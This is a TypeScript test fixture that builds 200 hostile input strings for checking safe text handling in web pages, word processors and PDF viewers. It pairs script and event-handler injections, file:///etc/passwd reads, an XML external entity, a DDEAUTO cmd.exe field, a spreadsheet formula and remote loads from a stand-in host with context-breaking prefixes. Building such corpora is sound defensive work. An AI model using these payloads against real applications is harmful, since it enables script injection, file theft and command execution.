/** Texts that would do something where a program takes them for more than text. */

/** What a page, a word processor or a PDF program would carry out or fetch. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//voorbeeld.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script xlink:href="data:,alert(1)"/></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="file:///etc/passwd"></object>',
  '<embed src="file:///etc/passwd">',
  '<link rel=stylesheet href=http://voorbeeld.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=file:///etc/passwd">',
  '<base href="http://voorbeeld.example/">',
  '<form action="http://voorbeeld.example/"><input autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>@import "http://voorbeeld.example/x.css"; *{background:url(http://voorbeeld.example)}',
  '<w:instrText>INCLUDEPICTURE "http://voorbeeld.example/x.png"</w:instrText>',
  '<w:altChunk r:id="rId1"/><w:attachedTemplate r:id="rId2"/>',
  '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '=HYPERLINK("http://voorbeeld.example";"klik")',
  '{{constructor.constructor("alert(1)")()}} \u0024{alert(1)} %s %n $& `',
  '\u202e<\u2066script\u2069>\u0000\u001b[31m\ud83d\ufffe',
  '&lt;script&gt; &#60;script&#62; \\u003cscript\\u003e %3Cscript%3E',
] as const;

/** What would end the place a text stands in, so that the payload is not text any more. */
const ENDINGS = ['', '">', "'>", '-->', ']]>', '</style></title>', '</td></w:t></w:p>', '\\"*/;}'];

/** Two hundred texts: every payload behind every way out of where it stands. */
export const HOSTILE_TEXTS: readonly string[] = PAYLOADS.flatMap((payload) =>
  ENDINGS.map((ending) => `${ending}${payload}`),
);
